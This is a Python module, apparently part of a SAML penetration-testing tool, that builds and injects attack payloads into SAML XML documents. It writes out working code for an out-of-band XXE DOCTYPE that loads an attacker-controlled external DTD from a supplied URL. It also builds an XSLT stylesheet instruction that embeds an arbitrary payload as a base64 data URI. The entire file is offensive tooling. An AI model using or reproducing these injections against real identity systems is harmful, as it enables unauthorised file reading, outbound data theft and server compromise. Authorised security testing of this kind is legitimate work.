"""XXE and XSLT injection payloads for SAML documents.

Both injections are single text insertions placed right after the XML
declaration, or at the start of the document when there is none. They
never fail.
"""

from __future__ import annotations

import base64
import re

# Leading XML declaration plus the whitespace around it
XML_DECLARATION_PATTERN = re.compile(r"^(\s*<\?xml\s[^?]*\?>\s*)", re.IGNORECASE)


def build_xxe_doctype(server_url: str) -> str:
    """Build a DOCTYPE with an external parameter entity pointing at ``server_url``.

    The URL is used verbatim.
    """
    return f"""<!DOCTYPE foo [
  <!ENTITY % xxe SYSTEM "{server_url}">
  %xxe;
]>"""


def build_xslt_instruction(payload: str) -> str:
    """Build an xml-stylesheet processing instruction embedding ``payload``.

    The payload is UTF-8 encoded and carried as a standard base64
    ``data:`` URI.
    """
    encoded = base64.b64encode(payload.encode("utf-8")).decode("ascii")
    return f'<?xml-stylesheet type="text/xsl" href="data:text/xml;base64,{encoded}"?>'


def apply_xxe(xml: str, server_url: str) -> str:
    """Inject an out-of-band XXE DOCTYPE into the document.

    Args:
        xml: Decoded SAML XML.
        server_url: URL of the attacker-controlled DTD.

    Returns:
        XML with the DOCTYPE after the XML declaration, or prepended.
    """
    doctype = build_xxe_doctype(server_url)
    declaration = XML_DECLARATION_PATTERN.match(xml)
    if declaration:
        return declaration.group(1) + doctype + xml[declaration.end() :]
    return doctype + xml


def apply_xslt(xml: str, payload: str) -> str:
    """Inject an XSLT stylesheet processing instruction into the document.

    Args:
        xml: Decoded SAML XML.
        payload: XSLT stylesheet source to embed.

    Returns:
        XML with the processing instruction after the XML declaration,
        or prepended.
    """
    instruction = build_xslt_instruction(payload)
    declaration = XML_DECLARATION_PATTERN.match(xml)
    if declaration:
        return declaration.group(1) + "\n" + instruction + "\n" + xml[declaration.end() :]
    return instruction + "\n" + xml
